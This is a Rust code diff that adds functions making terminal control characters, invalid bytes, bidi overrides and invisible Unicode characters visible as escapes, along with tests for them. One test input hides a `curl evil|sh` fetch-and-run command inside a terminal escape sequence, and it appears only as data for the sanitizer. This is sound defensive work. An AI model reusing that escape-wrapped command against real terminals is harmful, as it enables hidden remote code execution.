@@ -26,6 +26,45 @@ fn changes_direction(c: char) -> bool {
     matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
 }
 
+/// Shows what a terminal would interpret or hide: control characters as `^[`, bytes that are not UTF-8 as `<FF>`, and characters
+/// that [`is_hidden`] as `<U+202E>`. Tabs stay as they are.
+#[must_use]
+pub fn visible(bytes: &[u8]) -> String {
+    let mut out = String::with_capacity(bytes.len());
+    for chunk in bytes.utf8_chunks() {
+        for c in chunk.valid().chars() {
+            match c {
+                '\t' => out.push(c),
+                '\0'..='\x1f' | '\x7f' => {
+                    out.push('^');
+                    out.push(char::from((c as u8) ^ 0x40));
+                }
+                c if is_hidden(c) => out.push_str(&format!("<U+{:04X}>", u32::from(c))),
+                c => out.push(c),
+            }
+        }
+        for byte in chunk.invalid() {
+            out.push_str(&format!("<{byte:02X}>"));
+        }
+    }
+    out
+}
+
+/// Whether a terminal would interpret a character, or not show that it is there: control characters except tabs and line feeds,
+/// those that change the writing direction, and those without a width.
+#[must_use]
+pub fn is_hidden(c: char) -> bool {
+    match c {
+        '\t' | '\n' => false,
+        c if c.is_control() || changes_direction(c) => true,
+        // Soft hyphen, fillers, joiners and other formats, separators of lines, and tags.
+        '\u{ad}' | '\u{115f}' | '\u{1160}' | '\u{180e}' | '\u{3164}' | '\u{ffa0}' => true,
+        '\u{200b}'..='\u{200d}' | '\u{2028}' | '\u{2029}' | '\u{2060}'..='\u{206f}' => true,
+        '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}' => true,
+        _ => false,
+    }
+}
+
 /// Cleans the text and truncates it to one line of at most `most` characters.
 #[must_use]
 pub fn one_line(text: &str, most: usize) -> String {
@@ -83,6 +122,21 @@ mod tests {
     }
 
     #[test]
+    fn what_is_hidden_can_be_seen() {
+        for (hostile, shown) in [
+            (&b"plain \xc3\xbc\ttab"[..], "plain ü\ttab"),
+            (b": \"\x1b]0;\"; curl evil|sh; : \"\x07", r#": "^[]0;"; curl evil|sh; : "^G"#),
+            (b"over\rwritten\x08\x7f\0\n", "over^Mwritten^H^?^@^J"),
+            (b"8 bits \x9b1m \xff", "8 bits <9B>1m <FF>"),
+            ("\u{9b}31m".as_bytes(), "<U+009B>31m"),
+            ("a\u{202e}b\u{2066}c\u{200b}d".as_bytes(), "a<U+202E>b<U+2066>c<U+200B>d"),
+            ("\u{e0041}\u{feff}\u{2028}".as_bytes(), "<U+E0041><U+FEFF><U+2028>"),
+        ] {
+            assert_eq!(visible(hostile), shown, "{hostile:?}");
+        }
+    }
+
+    #[test]
     fn one_line_is_one_line() {
         assert_eq!(one_line("a\n b\t\x1b[1mc  ", 80), "a b c");
         assert_eq!(one_line("", 80), "");
@@ -97,6 +151,13 @@ mod tests {
             let cleaned = clean(&text);
             proptest::prop_assert!(!cleaned.chars().any(|c| c.is_control() && c != '\n'), "{cleaned:?}");
             proptest::prop_assert_eq!(clean(&cleaned), cleaned);
+        }
+
+        #[test]
+        fn nothing_stays_hidden(bytes in proptest::prelude::any::<Vec<u8>>()) {
+            let shown = visible(&bytes);
+            proptest::prop_assert!(!shown.chars().any(is_hidden), "{shown:?}");
+            proptest::prop_assert!(shown.chars().count() >= String::from_utf8_lossy(&bytes).chars().count());
         }
     }
 }
